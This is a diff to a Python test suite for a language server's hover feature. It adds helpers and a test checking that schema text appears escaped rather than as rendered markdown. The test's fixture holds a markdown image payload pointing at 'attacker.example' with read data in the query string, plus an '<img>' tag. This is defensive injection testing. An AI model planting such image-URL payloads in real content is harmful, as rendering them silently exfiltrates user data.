@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import json
 import random
+import re
 from pathlib import Path
 
 import pytest
@@ -38,6 +39,13 @@ SCHEMA = {
     "additionalProperties": False,
 }
 Severity = types.DiagnosticSeverity
+
+
+def as_read(contents: types.MarkupContent) -> str:
+    """The hover as the user reads it: markdown's backslash escapes undone."""
+    if contents.kind != types.MarkupKind.Markdown:
+        return contents.value
+    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", contents.value)
 
 
 def sidecar(name: str) -> str:
@@ -234,7 +242,7 @@ async def test_hover_and_definition_of_a_key_point_at_the_line_that_reads_it(
         types.HoverParams(text_document=where.text_document, position=where.position)
     )
     assert hover is not None and isinstance(hover.contents, types.MarkupContent)
-    value = hover.contents.value
+    value = as_read(hover.contents)
     assert "string, required" in value and "who to greet." in value
     assert f"Read on line {NAME_LINE + 1} of {Path(name).name}." in value
     locations = await lsp.client.text_document_definition_async(
@@ -333,7 +341,7 @@ async def test_a_nested_key_of_a_case_leads_to_the_line_that_reads_it(
         types.HoverParams(text_document=types.TextDocumentIdentifier(uri=uri), position=qty)
     )
     assert hover is not None and isinstance(hover.contents, types.MarkupContent)
-    assert f"Read on line {QTY_LINE + 1} of {Path(name).name}." in hover.contents.value
+    assert f"Read on line {QTY_LINE + 1} of {Path(name).name}." in as_read(hover.contents)
 
 
 @pytest.mark.parametrize("profile", ["neovim", "vscode-modern"])
@@ -575,3 +583,45 @@ class Inputs(BaseModel):
 inputs = Inputs.model_validate(json.load(sys.stdin))
 print(json.dumps({"success": True, "speed": inputs.speed}))
 """
+
+
+def _unescaped(markdown: str, characters: str) -> list[str]:
+    """The characters of `characters` in `markdown` that no backslash escapes."""
+    found, escaped = [], False
+    for character in markdown:
+        if not escaped and character in characters:
+            found.append(character)
+        escaped = not escaped and character == "\\"
+    return found
+
+
+async def test_a_hover_shows_what_a_run_wrote_as_text_never_as_markdown(
+    lsp: Session, name: str
+) -> None:
+    """A run, without network, writes a declared schema and an inputs file whose words carry
+    an image: its address holds what the run read, and an editor rendering the hover's
+    markdown fetches it. The words are shown as text."""
+    image = "![x](https://attacker.example/?d=%s)"
+    lsp.write(name, SCRIPT)
+    schema = {
+        "type": "object",
+        "properties": {
+            "name": {"type": "string", "description": image % "one" + " <img src=x>"},
+            "times": {"enum": [image % "two"]},
+        },
+        "required": ["name"],
+    }
+    lsp.write(name.replace(".py", ".schema.json"), json.dumps(schema))
+    text = '{"name": "Ada", "times": 1}'
+    uri = lsp.open(sidecar(name), text, language_id="json")
+    for key, leak in (('"name"', "one"), ('"times"', "two")):
+        hover = await lsp.client.text_document_hover_async(
+            types.HoverParams(
+                text_document=types.TextDocumentIdentifier(uri=uri), position=at(text, key, 2)
+            )
+        )
+        assert hover is not None and isinstance(hover.contents, types.MarkupContent)
+        # The positive control: the hover carries the words, as the user reads them.
+        assert image % leak in as_read(hover.contents), hover.contents.value
+        if hover.contents.kind == types.MarkupKind.Markdown:
+            assert _unescaped(hover.contents.value, "![]()<>`") == [], hover.contents.value
